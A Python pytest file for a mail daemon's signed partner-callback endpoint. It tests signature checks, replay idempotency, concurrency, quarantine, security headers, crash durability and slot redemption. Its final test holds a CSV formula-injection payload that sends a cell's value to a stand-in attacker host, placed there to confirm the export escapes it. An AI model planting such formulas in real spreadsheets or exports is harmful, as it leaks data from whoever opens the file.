"""Issue 9: Career Relay's signed callbacks over real HTTP against the running daemon (Dovecot
for its mailbox side), and the ledger they move."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import signal
import subprocess
import threading
import time
from pathlib import Path
from typing import Any

import httpx
import pytest
from harness import MAILFLOW, PASSWORD_ENV, DaemonThread, daemon_process, env_for, wait_until
from harness import write_config as harness_config
from servers import ImapAccount, free_port, wait_for_port

from mailflow.clock import SystemClock, iso
from mailflow.daemon.service import Health
from mailflow.pool.talent import TalentPool, new_candidate
from mailflow.relay.callbacks import SIGNATURE_HEADER, sign
from mailflow.settings.config import load_config
from mailflow.store import open_store

SECRET = "relay-secret-for-tests"
LEDGER_KEY = "ledger-key-for-tests"
CALLBACKS = "/callbacks/career-relay"
DEEP = b"[" * 2000 + b"]" * 2000


@pytest.fixture
def env(imap_account: ImapAccount, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    monkeypatch.setenv(PASSWORD_ENV, imap_account.password)
    monkeypatch.setenv("MAILFLOW_RELAY_SECRET", SECRET)
    monkeypatch.setenv("MAILFLOW_LEDGER_KEY", LEDGER_KEY)
    return env_for(imap_account)


def write_config(directory: Path, account: ImapAccount, per_slot: int = 10,
                 extra: str = "") -> tuple[Path, str]:
    port = free_port()
    config = harness_config(directory, account, extra=(
        f'[web]\nlisten = "127.0.0.1:{port}"\npublic_url = "http://127.0.0.1:{port}"\n'
        f"max_body_bytes = 4096\n\n[career_relay]\nregistrations_per_free_slot = {per_slot}\n"
        + extra))
    return config, f"http://127.0.0.1:{port}"


def ref(n: int) -> str:
    return f"{n:024x}"


def add_candidates(config_path: Path, count: int) -> list[str]:
    """`count` invited candidates (ids c_0000…, refs ref(n)), before the daemon starts."""
    config = load_config(config_path)
    store = open_store(config.data_dir)
    pool = TalentPool(store, SystemClock())
    try:
        with store.transaction():
            for n in range(count):
                candidate = new_candidate(f"c_{n:04d}", iso(SystemClock().now()))
                candidate.update(relay_ref=ref(n), relay_status="invited", status="rejected")
                pool.save(candidate)
    finally:
        store.close()
    return [ref(n) for n in range(count)]


def event(event_id: str, reference: str, kind: str = "registered",
          occurred_at: str = "2025-04-01T09:00:00+09:00") -> bytes:
    return json.dumps({"id": event_id, "type": kind, "ref": reference,
                       "occurred_at": occurred_at}).encode()


def signed(body: bytes, at: float | None = None, secret: str = SECRET) -> dict[str, str]:
    return {SIGNATURE_HEADER: sign(secret.encode(), body, int(at or time.time())),
            "Content-Type": "application/json"}


def post(base: str, body: bytes, headers: dict[str, str] | None = None) -> httpx.Response:
    return httpx.post(base + CALLBACKS, content=body,
                      headers=signed(body) if headers is None else headers, timeout=30)


def cli(config: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*MAILFLOW, *args, "-c", str(config)], env=env, capture_output=True,
                          text=True, timeout=60)


def balance(config: Path, env: dict[str, str]) -> dict[str, Any]:
    done = cli(config, env, "ledger", "--json")
    assert done.returncode == 0, done.stderr
    return dict(json.loads(done.stdout))


def ledger_state(running: DaemonThread) -> tuple[int, Any]:
    store = running.daemon.store
    return store.count("ledger"), store.get("settings", "ledger_head")


def test_25_registrations_two_slots_then_replay_changes_nothing(
        tmp_path: Path, imap_account: ImapAccount, env: dict[str, str]) -> None:
    config, base = write_config(tmp_path, imap_account)
    refs = add_candidates(config, 25)
    bodies = [event(f"evt-{n}", r) for n, r in enumerate(refs)]
    with DaemonThread(config) as running:
        for body in bodies:
            answer = post(base, body)
            assert answer.status_code == 200, answer.text
            assert answer.json() == {"ok": True, "id": json.loads(body)["id"],
                                     "duplicate": False}
        first = balance(config, env)
        assert (first["registrations"], first["slots_earned"], first["progress_to_next"],
                first["slots_available"], first["verified"]) == (25, 2, 5, 2, True)
        before = ledger_state(running)
        history = cli(config, env, "ledger", "history", "--json").stdout
        for body in bodies:  # the partner delivers everything again, freshly signed
            answer = post(base, body)
            assert answer.status_code == 200 and answer.json()["duplicate"] is True
        assert ledger_state(running) == before
        assert cli(config, env, "ledger", "history", "--json").stdout == history
        assert balance(config, env) == first
        human = cli(config, env, "ledger")
        assert "5/10" in human.stdout and human.returncode == 0
        candidate = running.daemon.store.get("candidates", "c_0003")
        assert candidate is not None and candidate["relay_status"] == "registered"
        timeline = [e["type"] for e in running.daemon.store.find("events", "candidate_id",
                                                                 "c_0003")]
        assert timeline.count("relay_registered") == 1


def test_100_concurrent_deliveries_of_one_event_leave_one_entry(
        tmp_path: Path, imap_account: ImapAccount, env: dict[str, str]) -> None:
    config, base = write_config(tmp_path, imap_account)
    add_candidates(config, 1)
    body = event("evt-once", ref(0))

    async def deliver() -> list[httpx.Response]:
        limits = httpx.Limits(max_connections=100)
        async with httpx.AsyncClient(base_url=base, limits=limits, timeout=30) as client:
            return list(await asyncio.gather(*(client.post(CALLBACKS, content=body,
                                                           headers=signed(body))
                                               for _ in range(100))))

    with DaemonThread(config) as running:
        answers = asyncio.run(deliver())
        assert [a.status_code for a in answers] == [200] * 100
        assert sum(not a.json()["duplicate"] for a in answers) == 1
        store = running.daemon.store
        assert len(store.find("ledger", "event_id", "evt-once")) == 1
        assert store.count("ledger") == 1
        assert [e["type"] for e in store.find("events", "candidate_id", "c_0000")].count(
            "relay_registered") == 1
    assert balance(config, env)["registrations"] == 1


def test_refused_callbacks_leave_the_ledger_unchanged(
        tmp_path: Path, imap_account: ImapAccount, env: dict[str, str]) -> None:
    config, base = write_config(tmp_path, imap_account)
    add_candidates(config, 3)
    good = event("evt-0", ref(0))
    other = event("evt-1", ref(1))
    now = time.time()
    forged = {SIGNATURE_HEADER: f"t={int(now)},v1={'ab' * 32}"}
    refused = [
        ("forged signature", good, forged, 401),
        ("signature over a different body", good, signed(other), 401),
        ("timestamp 6 minutes old", good, signed(good, now - 360), 401),
        ("timestamp 6 minutes ahead", good, signed(good, now + 360), 401),
        ("signed with another secret", good, signed(good, secret="not-the-secret"), 401),
        ("missing header", good, {}, 401),
        ("garbled header", good, {SIGNATURE_HEADER: "v1=abc,t=x"}, 401),
        ("body not JSON", b"registered c_0000 please", signed(b"registered c_0000 please"),
         400),
        ("JSON, not an event", b"[1, 2]", signed(b"[1, 2]"), 400),
        ("unknown type", event("evt-2", ref(2), "promoted"),
         signed(event("evt-2", ref(2), "promoted")), 400),
        ("occurred_at without offset", event("evt-2", ref(2), occurred_at="2025-04-01T09:00"),
         signed(event("evt-2", ref(2), occurred_at="2025-04-01T09:00")), 400),
        # issue 21: these were unhandled 500s (RecursionError, OverflowError)
        ("JSON nested 2,000 deep", DEEP, signed(DEEP), 400),
        *((f"occurred_at {at}", event("evt-3", ref(2), occurred_at=at),
           signed(event("evt-3", ref(2), occurred_at=at)), 400)
          for at in ("0001-01-01T00:00:00+09:00", "9999-12-31T23:59:59-09:00")),
    ]
    with DaemonThread(config) as running:
        before = ledger_state(running)
        for what, body, headers, status in refused:
            answer = post(base, body, headers)
            assert answer.status_code == status, f"{what}: {answer.status_code} {answer.text}"
            assert answer.json()["ok"] is False
        assert ledger_state(running) == before
        assert running.daemon.store.count("callbacks") == 0
        assert running.daemon.store.get("candidates", "c_0000")["relay_status"] == "invited"
        assert post(base, good).status_code == 200  # the real one still goes through
    assert balance(config, env)["registrations"] == 1


def test_unknown_ref_is_quarantined_and_taken_when_the_ref_is_known(
        tmp_path: Path, imap_account: ImapAccount, env: dict[str, str]) -> None:
    config, base = write_config(tmp_path, imap_account)
    add_candidates(config, 1)
    body = event("evt-stray", "feedfacefeedfacefeedface")
    with DaemonThread(config) as running:
        assert post(base, body).status_code == 422
        assert post(base, body).status_code == 422  # the partner retries: still one item
        listed = cli(config, env, "quarantine", "list", "--json")
        items = json.loads(listed.stdout)
        assert len(items) == 1 and items[0]["role"] == "callback"
        assert items[0]["event_id"] == "evt-stray" and items[0]["attempts"] == 2
        stored = running.daemon.store.get("quarantine", items[0]["key"])
        assert stored is not None and stored["raw"]  # the raw body is kept
        human = cli(config, env, "quarantine", "list")
        assert "callback:evt-stray" in human.stdout
        replay = cli(config, env, "quarantine", "replay", items[0]["id"])
        assert replay.returncode == 1 and "partner callback" in replay.stderr
        assert running.daemon.store.count("ledger") == 0
        with running.daemon.lane:  # the candidate turns out to carry that ref after all
            candidate = running.daemon.store.get("candidates", "c_0000")
            assert candidate is not None
            candidate["relay_ref"] = "feedfacefeedfacefeedface"
            running.daemon.store.put("candidates", "c_0000", candidate)
        assert post(base, body).status_code == 200
        assert running.daemon.store.get("quarantine", items[0]["key"])["state"] == "replayed"
    assert balance(config, env)["registrations"] == 1


def test_each_event_moves_the_relay_status(
        tmp_path: Path, imap_account: ImapAccount, env: dict[str, str]) -> None:
    config, base = write_config(tmp_path, imap_account)
    add_candidates(config, 4)
    steps = [(0, "registered", "registered"), (1, "registered", "registered"),
             (1, "introduced", "introduced"), (2, "registered", "registered"),
             (2, "hired", "hired_elsewhere"), (3, "withdrawn", "withdrawn")]
    with DaemonThread(config) as running:
        store = running.daemon.store
        for n, (who, kind, status) in enumerate(steps):
            at = f"2025-04-0{n + 1}T09:00:00+09:00"
            assert post(base, event(f"evt-{n}", ref(who), kind, at)).status_code == 200
            assert store.get("candidates", f"c_{who:04d}")["relay_status"] == status
        # an older event delivered late does not roll the status back; it is on the timeline
        assert post(base, event("evt-late", ref(2), "introduced",
                                "2025-03-01T09:00:00+09:00")).status_code == 200
        assert store.get("candidates", "c_0002")["relay_status"] == "hired_elsewhere"
        assert "relay_introduced" in [e["type"] for e in store.find("events", "candidate_id",
                                                                    "c_0002")]
    # registrations of 0, 1, 2 count; introduced / hired add nothing; 3 withdrew unregistered
    assert balance(config, env)["registrations"] == 3


def test_withdrawn_after_registration_is_a_correction_over_http(
        tmp_path: Path, imap_account: ImapAccount, env: dict[str, str]) -> None:
    config, base = write_config(tmp_path, imap_account, per_slot=2)
    add_candidates(config, 3)
    with DaemonThread(config):
        for n in range(3):
            assert post(base, event(f"reg-{n}", ref(n))).status_code == 200
        # candidate 0 was spent on the slot earned: the slot stands, nothing is taken back
        assert post(base, event("wd-0", ref(0), "withdrawn")).status_code == 200
        # candidate 2 waits in the progress: it stops counting
        assert post(base, event("wd-2", ref(2), "withdrawn")).status_code == 200
        # registering again after a withdrawal is not credited again
        assert post(base, event("reg-2b", ref(2))).status_code == 200
    now = balance(config, env)
    assert (now["registrations"], now["slots_earned"], now["progress_to_next"],
            now["corrections"], now["verified"]) == (2, 1, 0, 2, True)
    entries = json.loads(cli(config, env, "ledger", "history", "--json").stdout)
    assert [(e["kind"], e["counted_delta"]) for e in entries if e["kind"] == "correction"] == [
        ("correction", 0), ("correction", -1)]


def test_web_edge_headers_limits_health_and_openapi(
        tmp_path: Path, imap_account: ImapAccount, env: dict[str, str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    config, base = write_config(tmp_path, imap_account)
    with DaemonThread(config) as running:
        answers = {
            "healthz": httpx.get(base + "/healthz"),
            "openapi": httpx.get(base + "/openapi.json"),
            "unknown": httpx.get(base + "/wp-login.php"),  # /admin is the admin pages now
            "too large": post(base, b"{" + b" " * 5000 + b"}"),
            "too large, chunked": httpx.post(base + CALLBACKS,
                                             content=iter([b"x" * 3000, b"y" * 3000]),
                                             headers=signed(b"")),
            "refused": post(base, b"{}", {}),
        }
        for what, answer in answers.items():
            headers = answer.headers
            assert headers["x-content-type-options"] == "nosniff", what
            assert headers["referrer-policy"] == "no-referrer", what
            assert headers["content-security-policy"].startswith("default-src 'none'"), what
            assert headers["x-frame-options"] == "DENY", what
            assert headers["cache-control"] == "no-store", what
            assert "server" not in headers, what
        assert answers["healthz"].status_code == 200
        assert answers["healthz"].json() == {"status": "ok"}
        spec = answers["openapi"].json()
        assert CALLBACKS in spec["paths"] and set(spec["paths"][CALLBACKS]["post"]["responses"]) \
            >= {"200", "400", "401", "422"}
        assert answers["unknown"].status_code == 404
        assert answers["too large"].status_code == 413
        assert answers["too large, chunked"].status_code == 413
        # the watchdog's next round (check_health) replaces the daemon's Health: on a busy
        # machine it could land between setting the sick one here and the GET below
        monkeypatch.setattr(running.daemon, "check_health", lambda: None)
        running.daemon.health = Health(False, ["inbox: server silent for 2000s"])
        sick = httpx.get(base + "/healthz")
        assert sick.status_code == 503 and sick.json()["reasons"] == [
            "inbox: server silent for 2000s"]


def test_missing_secrets_answer_503_and_record_nothing(
        tmp_path: Path, imap_account: ImapAccount, env: dict[str, str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    config, base = write_config(tmp_path, imap_account)
    add_candidates(config, 1)
    monkeypatch.delenv("MAILFLOW_LEDGER_KEY")
    with DaemonThread(config) as running:
        answer = post(base, event("evt-0", ref(0)))
        assert answer.status_code == 503
        assert running.daemon.store.count("callbacks") == 0
        assert running.daemon.store.get("candidates", "c_0000")["relay_status"] == "invited"
        health = httpx.get(base + "/healthz")
        assert health.status_code == 503 and "MAILFLOW_LEDGER_KEY" in health.text
        monkeypatch.delenv("MAILFLOW_RELAY_SECRET")
        assert post(base, event("evt-0", ref(0))).status_code == 503


def test_redeem_through_the_running_daemon_and_refused_without_a_slot(
        tmp_path: Path, imap_account: ImapAccount, env: dict[str, str]) -> None:
    config, base = write_config(tmp_path, imap_account, per_slot=2)
    add_candidates(config, 2)
    with DaemonThread(config) as running:
        before = ledger_state(running)
        refused = cli(config, env, "ledger", "redeem", "--note", "backend hire")
        assert refused.returncode == 1, refused.stderr
        assert refused.stderr.startswith("mailflow: error: no free slot available")
        assert ledger_state(running) == before
        for n in range(2):
            assert post(base, event(f"reg-{n}", ref(n))).status_code == 200
        done = cli(config, env, "ledger", "redeem", "--note", "バックエンド採用 (山田)")
        assert done.returncode == 0, done.stderr
        assert "0 left" in done.stdout
        after = ledger_state(running)
        again = cli(config, env, "ledger", "redeem", "--note", "one more")
        assert again.returncode == 1 and ledger_state(running) == after
    now = balance(config, env)
    assert (now["slots_earned"], now["slots_redeemed"], now["slots_available"]) == (1, 1, 0)
    # without a daemon, under the writer lock: refused, and nothing changes
    refused = cli(config, env, "ledger", "redeem", "--note", "again")
    assert refused.returncode == 1 and "no free slot" in refused.stderr
    assert balance(config, env) == now


def test_kill9_during_a_burst_keeps_every_acknowledged_callback(
        tmp_path: Path, imap_account: ImapAccount, env: dict[str, str]) -> None:
    config, base = write_config(tmp_path, imap_account)
    refs = add_candidates(config, 400)
    bodies = {f"burst-{n}": event(f"burst-{n}", r) for n, r in enumerate(refs)}
    acknowledged: list[str] = []
    failed: list[str] = []

    async def burst() -> None:
        queue = list(bodies.items())

        async def worker(client: httpx.AsyncClient) -> None:
            while queue:
                event_id, body = queue.pop(0)
                try:
                    answer = await client.post(CALLBACKS, content=body, headers=signed(body))
                except httpx.HTTPError:
                    failed.append(event_id)
                    continue
                (acknowledged if answer.status_code == 200 else failed).append(event_id)

        async with httpx.AsyncClient(base_url=base, timeout=10) as client:
            await asyncio.gather(*(worker(client) for _ in range(20)))

    host, port = base.removeprefix("http://").split(":")
    with daemon_process(config, imap_account) as process:
        wait_for_port(host, int(port), timeout=30)
        client = threading.Thread(target=lambda: asyncio.run(burst()))
        client.start()
        wait_until(lambda: len(acknowledged) >= 120, interval=0.005, what="callbacks")
        process.send_signal(signal.SIGKILL)
        process.wait()
        client.join(60)
    assert failed, "the daemon was killed after the burst, not during it"
    assert len(acknowledged) + len(failed) == len(bodies)

    store = open_store(load_config(config).data_dir, read_only=True)
    try:
        for event_id in acknowledged:
            assert store.get("callbacks", event_id) is not None, event_id
            assert [e["kind"] for e in store.find("ledger", "event_id", event_id)][:1] == [
                "registration"], event_id
    finally:
        store.close()
    verified = cli(config, env, "ledger", "verify")
    assert verified.returncode == 0, verified.stderr
    assert balance(config, env)["registrations"] >= len(acknowledged)

    with DaemonThread(config):  # the partner retries what was not acknowledged (and more)
        for body in bodies.values():
            assert post(base, body).status_code == 200
    final = balance(config, env)
    assert (final["registrations"], final["slots_earned"], final["verified"]) == (400, 40, True)


def test_a_formula_in_a_partner_event_id_is_text_in_the_ledger_export(
        tmp_path: Path, imap_account: ImapAccount, env: dict[str, str]) -> None:
    """Issue 21: `ledger export --csv` wrote a partner's event id verbatim, so a spreadsheet ran
    it: `=HYPERLINK("http://evil.example/?x="&A1,"click")`."""
    config, base = write_config(tmp_path, imap_account)
    add_candidates(config, 1)
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    with DaemonThread(config):
        assert post(base, event(hostile, ref(0))).status_code == 200
    done = cli(config, env, "ledger", "export", "--csv")
    assert done.returncode == 0, done.stderr
    cells = [cell for row in csv.reader(io.StringIO(done.stdout)) for cell in row]
    assert "'" + hostile in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
